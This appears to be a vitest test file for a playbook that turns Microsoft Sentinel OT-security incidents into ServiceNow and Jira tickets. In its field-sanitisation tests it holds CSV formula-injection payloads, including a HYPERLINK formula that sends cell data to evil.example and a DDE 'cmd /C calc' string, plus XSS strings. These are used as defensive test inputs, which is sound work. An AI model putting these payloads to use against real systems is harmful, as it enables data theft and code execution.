import { describe, expect, it } from 'vitest';
import { aggregateFacts, alertFacts } from '../../playbooks/facts.js';
import { parseIncidentTrigger } from '../../playbooks/payload.js';
import { adfFromDraft } from '../../playbooks/tickets/adf.js';
import {
  labelOf,
  neutraliseFormula,
  serviceNowPriority,
  ticketDraft,
} from '../../playbooks/tickets/fields.js';
import { adfProblem, JIRA_BEARER, JIRA_CLOUD_ID, JIRA_URL } from '../helpers/fakeJira.js';
import { SNOW_OT_GROUP_ID } from '../helpers/fakeServiceNow.js';
import {
  harness,
  incidentOf,
  lyonRow,
  rotterdamRow,
  TEST_CONFIG,
  TEST_ENV,
} from '../helpers/playbookFixtures.js';

const body = (r: { jsonBody: unknown }) =>
  r.jsonBody as { result: string; actions: string[]; message?: string; error?: string; reason?: string };

describe('create-ticket: ServiceNow', () => {
  it('resolves assignmentGroup to its sys_id once; an unknown group name is a 424 naming the setting, no ticket', async () => {
    const h = harness();
    const a = incidentOf([lyonRow()], 61);
    const b2 = incidentOf([lyonRow()], 62);
    h.sentinel.seed(a as never);
    h.sentinel.seed(b2 as never);
    expect((await h.run('create-ticket', a)).status).toBe(200);
    expect((await h.run('create-ticket', b2)).status).toBe(200);
    expect(h.fetch.requests.filter((r) => r.url.includes('/sys_user_group'))).toHaveLength(1);
    expect(h.snow.records.map((r) => r.assignment_group)).toEqual([SNOW_OT_GROUP_ID, SNOW_OT_GROUP_ID]);
    const other = harness();
    other.snow.groups.clear();
    other.sentinel.seed(a as never);
    const res = await other.run('create-ticket', a);
    expect(res.status).toBe(424);
    expect(body(res).message).toMatch(
      /no group named "OT Security" in sys_user_group: set ticketSystems.<name>.assignmentGroup/,
    );
    expect(other.snow.records).toEqual([]);
  });

  it('opens an incident with mapped fields, records it, labels and comments the Sentinel incident', async () => {
    const h = harness();
    const payload = incidentOf([lyonRow()]);
    const id = h.sentinel.seed(payload as never);
    const res = await h.run('create-ticket', payload);
    expect(res.status).toBe(200);
    expect(body(res).actions).toEqual([
      'created ServiceNow ticket INC0010001',
      'added label ticket:INC0010001',
      'added audit comment',
    ]);
    expect(h.snow.records).toHaveLength(1);
    const r = h.snow.records[0]!;
    const incidentName = id.split('/').pop()!;
    expect(r).toMatchObject({
      short_description: '[OT Lyon] High: Unauthorized PLC Programming',
      urgency: '1',
      impact: '1',
      category: 'security',
      assignment_group: SNOW_OT_GROUP_ID, // resolved from the configured name (a reference field)
      correlation_id: incidentName,
      correlation_display: 'Microsoft Sentinel',
    });
    expect(r.description).toContain('Sentinel incident #42: Unauthorized PLC Programming');
    expect(r.description).toContain(
      'LYN-FIL-PLC-01 (destination): PLC, Purdue L1, criticality Critical, 10.20.3.21, owner Girard, L. (Filling)',
    );
    expect(r.description).toContain('T0843 Program Download <https://attack.mitre.org/techniques/T0843>');
    // Bullets are "•", so no line carries the formula guard's quote unless its own text needs it.
    for (const line of r.description!.split('\n')) expect(line).not.toMatch(/^'/);
    expect(r.description).toMatch(/^• Sentinel incident #42/m);
    const stored = h.sentinel.incident(id);
    expect((stored.properties.labels as { labelName: string }[]).map((l) => l.labelName)).toContain(
      'ticket:INC0010001',
    );
    const comment = [...stored.comments.values()][0]!.message;
    expect(comment).toMatch(
      /^ot-soc create-ticket: ServiceNow ticket INC0010001 https:\/\/contoso\.service-now\.com\/nav_to\.do\?uri=incident\.do%3Fsys_id%3D[0-9a-f]{32}$/,
    );
    expect(await h.deps.ticketMap!.get(id)).toMatchObject({
      value: { state: 'created', key: 'INC0010001', kind: 'serviceNow' },
    });
  });

  it('a re-run opens no second ticket and writes nothing', async () => {
    const h = harness();
    const payload = incidentOf([lyonRow()]);
    h.sentinel.seed(payload as never);
    await h.run('create-ticket', payload);
    const before = h.writes().length;
    const again = await h.run('create-ticket', payload);
    expect(body(again)).toMatchObject({ result: 'noop', actions: [] });
    expect(h.snow.records).toHaveLength(1);
    expect(h.writes()).toHaveLength(before);
  });

  it('when our map lost the ticket, finds it by correlation_id instead of opening another', async () => {
    const h = harness();
    const payload = incidentOf([lyonRow()]);
    h.sentinel.seed(payload as never);
    await h.run('create-ticket', payload);
    h.deps.ticketMap = (await import('../../playbooks/state/ticketMap.js')).memoryTicketMap(); // lost
    const again = await h.run('create-ticket', payload);
    expect(body(again).actions[0]).toBe(
      'found ServiceNow ticket INC0010001 by correlation id (not created again)',
    );
    expect(h.snow.records).toHaveLength(1);
  });

  it('another incident gets its own ticket: the correlation search matches only its own id', async () => {
    const h = harness();
    const other = incidentOf([lyonRow({ AlertId: 'other' })], 41);
    h.sentinel.seed(other as never);
    await h.run('create-ticket', other);
    const payload = incidentOf([lyonRow()], 42);
    h.sentinel.seed(payload as never);
    await h.run('create-ticket', payload);
    expect(h.snow.records).toHaveLength(2);
  });

  it('two concurrent runs open one ticket: the loser gets 503 in-progress with Retry-After (Logic Apps retries 5xx, not 409)', async () => {
    const h = harness();
    const payload = incidentOf([lyonRow()]);
    h.sentinel.seed(payload as never);
    const [a, b] = await Promise.all([h.run('create-ticket', payload), h.run('create-ticket', payload)]);
    expect([a.status, b.status].sort()).toEqual([200, 503]);
    const loser = a.status === 503 ? a : b;
    expect(loser.headers).toEqual({ 'retry-after': '120' });
    expect(body(loser).error).toBe('in-progress');
    expect(h.snow.records).toHaveLength(1);
  });

  it('retries the label update on a 409 conflict and succeeds', async () => {
    const h = harness();
    const payload = incidentOf([lyonRow()]);
    const id = h.sentinel.seed(payload as never);
    h.sentinel.concurrentEdit((p) => {
      p.labels = [{ labelName: 'triage', labelType: 'User' }];
    });
    const res = await h.run('create-ticket', payload);
    expect(res.status).toBe(200);
    expect(
      (h.sentinel.incident(id).properties.labels as { labelName: string }[]).map((l) => l.labelName),
    ).toEqual(['triage', 'ticket:INC0010001']);
  });

  it('honours ServiceNow 429 Retry-After', async () => {
    const h = harness();
    const payload = incidentOf([lyonRow()]);
    h.sentinel.seed(payload as never);
    h.snow.throttle.next(1, 4);
    const res = await h.run('create-ticket', payload);
    expect(res.status).toBe(200);
    expect(h.sleep.waits).toContain(4000);
    expect(h.snow.records).toHaveLength(1);
  });

  it('wrong ServiceNow credentials are a clear 424 naming the settings; the reservation is released', async () => {
    const h = harness(TEST_CONFIG, {
      ...(await import('../helpers/playbookFixtures.js')).TEST_ENV,
      SNOW_PASSWORD: 'wrong',
    });
    const payload = incidentOf([lyonRow()]);
    const id = h.sentinel.seed(payload as never);
    const res = await h.run('create-ticket', payload);
    expect(res.status).toBe(424);
    expect(body(res)).toMatchObject({ error: 'unauthorized', service: 'servicenow' });
    expect(body(res).message).toContain('SNOW_USER/SNOW_PASSWORD');
    expect(await h.deps.ticketMap!.get(id)).toBeUndefined();
  });

  it('a bad payload is a 400 naming the field and opens nothing', async () => {
    const h = harness();
    const payload = incidentOf([lyonRow()]) as { object: { properties: Record<string, unknown> } };
    h.sentinel.seed(payload as never);
    delete payload.object.properties.title;
    const res = await h.run('create-ticket', payload);
    expect(res.status).toBe(400);
    expect(body(res).message).toContain('object.properties.title');
    expect(h.fetch.requests).toHaveLength(0);
  });

  it('missing Sentinel write permission: a clear 424; the ticket is kept, the re-run only links it', async () => {
    const h = harness();
    const payload = incidentOf([lyonRow()]);
    const id = h.sentinel.seed(payload as never);
    h.sentinel.role = 'reader';
    const res = await h.run('create-ticket', payload);
    expect(res.status).toBe(424);
    expect(body(res).message).toContain('Microsoft Sentinel Responder');
    expect(h.snow.records).toHaveLength(1);
    h.sentinel.role = 'responder';
    const retry = await h.run('create-ticket', payload);
    expect(body(retry).actions).toEqual(['added label ticket:INC0010001', 'added audit comment']);
    expect(h.snow.records).toHaveLength(1);
    expect(h.sentinel.incident(id).comments.size).toBe(1);
  });

  it('skips sites without a ticket system and low-severity incidents', async () => {
    const h = harness();
    const unknown = incidentOf([lyonRow({ Site: 'Hamburg' })], 60);
    h.sentinel.seed(unknown as never);
    expect(body(await h.run('create-ticket', unknown))).toMatchObject({
      result: 'skipped',
      reason: 'no ticket system for site Hamburg',
    });
    const low = incidentOf([lyonRow({ Severity: 'Low' })], 61);
    h.sentinel.seed(low as never);
    expect(body(await h.run('create-ticket', low)).reason).toMatch(/below tickets.minSeverity/);
    expect(h.snow.records).toHaveLength(0);
  });
});

describe('create-ticket: Jira Cloud', () => {
  it('opens an issue with an ADF description, priority and labels', async () => {
    const h = harness();
    const payload = incidentOf([rotterdamRow()]);
    const id = h.sentinel.seed(payload as never);
    const res = await h.run('create-ticket', payload);
    expect(res.status).toBe(200);
    expect(body(res).actions[0]).toBe('created Jira ticket OT-1');
    const issue = h.jira.issues[0]!;
    expect(issue.fields).toMatchObject({
      project: { key: 'OT' },
      issuetype: { name: 'Task' },
      summary: '[OT Rotterdam] Medium: Illegal Modbus Address Range',
      priority: { name: 'Medium' },
    });
    expect(adfProblem(issue.fields.description)).toBeUndefined();
    expect(issue.fields.labels).toEqual(
      expect.arrayContaining([
        'ot-soc',
        `sentinel-${id.split('/').pop()}`,
        'site-rotterdam',
        'severity-medium',
        't0836',
      ]),
    );
    expect([...h.sentinel.incident(id).comments.values()][0]!.message).toBe(
      'ot-soc create-ticket: Jira ticket OT-1 https://contoso.atlassian.net/browse/OT-1',
    );
  });

  it('finds a lost ticket by label; with the eventually consistent search lagging, the map still prevents a duplicate', async () => {
    const h = harness();
    const payload = incidentOf([rotterdamRow()]);
    h.sentinel.seed(payload as never);
    await h.run('create-ticket', payload);
    h.jira.searchLag = true;
    await h.run('create-ticket', payload); // map has it: no search, no create
    expect(h.jira.issues).toHaveLength(1);
    h.jira.searchLag = false;
    h.deps.ticketMap = (await import('../../playbooks/state/ticketMap.js')).memoryTicketMap();
    const res = await h.run('create-ticket', payload);
    expect(body(res).actions[0]).toMatch(/^found Jira ticket OT-1/);
    expect(h.jira.issues).toHaveLength(1);
  });

  it('retries without priority when the project screen lacks it', async () => {
    const h = harness();
    h.jira.noPriority.add('OT');
    const payload = incidentOf([rotterdamRow()]);
    h.sentinel.seed(payload as never);
    const res = await h.run('create-ticket', payload);
    expect(res.status).toBe(200);
    expect(h.jira.issues[0]!.fields.priority).toBeUndefined();
  });

  it('surfaces Jira 400 errors ({errorMessages, errors}) and honours 429', async () => {
    const h = harness({
      ...TEST_CONFIG,
      ticketSystems: {
        ...TEST_CONFIG.ticketSystems,
        jira: { ...(TEST_CONFIG.ticketSystems!.jira as object), projectKey: 'NOPE' } as never,
      },
    });
    const payload = incidentOf([rotterdamRow()]);
    h.sentinel.seed(payload as never);
    h.jira.throttle.next(1, 2);
    const res = await h.run('create-ticket', payload);
    expect(h.sleep.waits).toContain(2000);
    expect(res.status).toBe(424);
    expect(body(res)).toMatchObject({ error: 'rejected', service: 'jira' });
    expect(body(res).message).toContain('project: valid project is required');
  });
});

describe('ticket fields', () => {
  it.each([
    ['=HYPERLINK("http://evil","x")', `'=HYPERLINK("http://evil","x")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['  =1+1', `'  =1+1`],
    ['\t=1', `'\t=1`],
    ['＝1+1', `'＝1+1`],
    ['PLC programming', 'PLC programming'],
  ])('neutralises %j', (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });

  it('no field that reaches an export starts a formula (ServiceNow, Jira)', async () => {
    const h = harness();
    const evil = lyonRow({
      AlertTitle: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      DestinationAssetName: '@SUM(1+1)*cmd|" /C calc"!A0',
      Site: 'Lyon',
      Zone: '-Filling',
    });
    const payload = incidentOf([evil]);
    (payload as { object: { properties: { title: string } } }).object.properties.title =
      evil.AlertTitle as string;
    h.sentinel.seed(payload as never);
    await h.run('create-ticket', payload);
    const r = h.snow.records[0]!;
    for (const field of ['short_description', 'description', 'category'])
      for (const line of r[field]!.split('\n')) expect(line).not.toMatch(/^\s*[=+\-@]/);

    const parsed = parseIncidentTrigger(payload);
    if (!parsed.ok) throw new Error('fixture');
    const draft = ticketDraft({
      correlationId: 'abc',
      incidentArmId: parsed.ref.armId,
      incidentNumber: 42,
      title: '+1 evil',
      severity: 'High',
      facts: aggregateFacts(parsed.trigger, parsed.trigger.object.properties.Alerts!.map(alertFacts)),
    });
    const adf = JSON.stringify(adfFromDraft(draft));
    expect(adf).not.toMatch(/"text":"\s*[=+\-@]/);
    expect(draft.labels.every((l) => !/^[=+\-@]/.test(l) && !/\s/.test(l))).toBe(true);
    expect(labelOf('=cmd x')).toBe('cmd-x');
  });

  it('no raw HTML from the payload: angle brackets become look-alikes, the link is the portal’s or none', async () => {
    const h = harness();
    const payload = incidentOf([
      lyonRow({ Zone: '<img src=x onerror=alert(1)>', DestinationAssetName: '<script>alert(1)</script>' }),
    ]) as { object: { properties: Record<string, unknown> } };
    payload.object.properties.title = '<b onmouseover="x">PLC</b>';
    payload.object.properties.incidentUrl = 'https://portal.azure.com/#"><script>alert(1)</script>';
    h.sentinel.seed(payload as never);
    await h.run('create-ticket', payload);
    const r = h.snow.records[0]!;
    for (const value of Object.values(r))
      expect(value).not.toMatch(/<(?!https:\/\/(portal\.azure\.com|attack\.mitre\.org)\/)[a-z!/?]/i);
    expect(r.description).toContain('Site / zone: Lyon / ‹img src=x onerror=alert(1)›');
    expect(r.short_description).toBe('[OT Lyon] High: ‹b onmouseover="x"›PLC‹/b›');
    expect(r.description).toContain('<https://portal.azure.com/#%22%3E%3Cscript%3Ealert(1)%3C/script%3E>');

    const parsed = parseIncidentTrigger(incidentOf([lyonRow()]));
    if (!parsed.ok) throw new Error('fixture');
    const draft = (url: string) =>
      ticketDraft({
        correlationId: 'abc',
        incidentArmId: '/subscriptions/s/resourceGroups/<x>/providers/p',
        incidentNumber: 1,
        incidentUrl: url,
        title: 't',
        severity: 'High',
        facts: aggregateFacts(parsed.trigger, []),
      });
    expect(draft('https://evil.example/phish').incidentUrl).toBeUndefined();
    expect(draft('https://evil.example/phish').sections[0]!.items[0]!.url).toBeUndefined();
    expect(draft('https://portal.azure.com/#x').incidentUrl).toBe('https://portal.azure.com/#x');
    expect(JSON.stringify(draft('https://portal.azure.com/#x').sections)).toContain('resourceGroups/‹x›/');
  });

  it('a criticality named like a built-in property keeps impact in 1–3', () => {
    expect(serviceNowPriority('Medium', 'constructor')).toEqual({ urgency: '2', impact: '2' });
    expect(serviceNowPriority('Low', '__proto__')).toEqual({ urgency: '3', impact: '3' });
    expect(serviceNowPriority('Low', 'Critical')).toEqual({ urgency: '3', impact: '1' });
  });
});

describe('create-ticket: Jira Cloud with OAuth 2.0 (3LO)', () => {
  const config = {
    ...TEST_CONFIG,
    ticketSystems: {
      ...TEST_CONFIG.ticketSystems,
      jira: {
        kind: 'jira' as const,
        baseUrl: JIRA_URL,
        projectKey: 'OT',
        auth: { type: 'bearer' as const, tokenSetting: 'JIRA_OAUTH_TOKEN', cloudId: JIRA_CLOUD_ID },
      },
    },
  };

  it('calls api.atlassian.com/ex/jira/{cloudId} with the bearer token; the browse link stays on the site', async () => {
    const h = harness(config, { ...TEST_ENV, JIRA_OAUTH_TOKEN: JIRA_BEARER });
    const payload = incidentOf([rotterdamRow()]);
    const id = h.sentinel.seed(payload as never);
    const res = await h.run('create-ticket', payload);
    expect(res.status).toBe(200);
    const jira = h.fetch.requests.filter((r) => r.url.includes('atlassian'));
    expect(jira.map((r) => new URL(r.url).origin)).toEqual([
      'https://api.atlassian.com',
      'https://api.atlassian.com',
    ]);
    expect(
      jira.every((r) => r.url.startsWith(`https://api.atlassian.com/ex/jira/${JIRA_CLOUD_ID}/rest/api/3/`)),
    ).toBe(true);
    expect(jira.every((r) => r.authorization === `Bearer ${JIRA_BEARER}`)).toBe(true);
    const comment = [...h.sentinel.incident(id).comments.values()][0]!.message;
    expect(comment).toContain(`${JIRA_URL}/browse/OT-1`);
  });

  it('a bearer configuration without the cloud id is refused at start, naming the path', async () => {
    const { parsePlaybookConfig } = await import('../../playbooks/config.js');
    const bad = structuredClone(config) as { ticketSystems: { jira: { auth: Record<string, unknown> } } };
    delete bad.ticketSystems.jira.auth.cloudId;
    expect(() => parsePlaybookConfig(bad, 'OTSOC_PLAYBOOK_CONFIG')).toThrow(
      /OTSOC_PLAYBOOK_CONFIG: ticketSystems\.jira\.auth\.cloudId: the Jira site cloud id/,
    );
  });
});
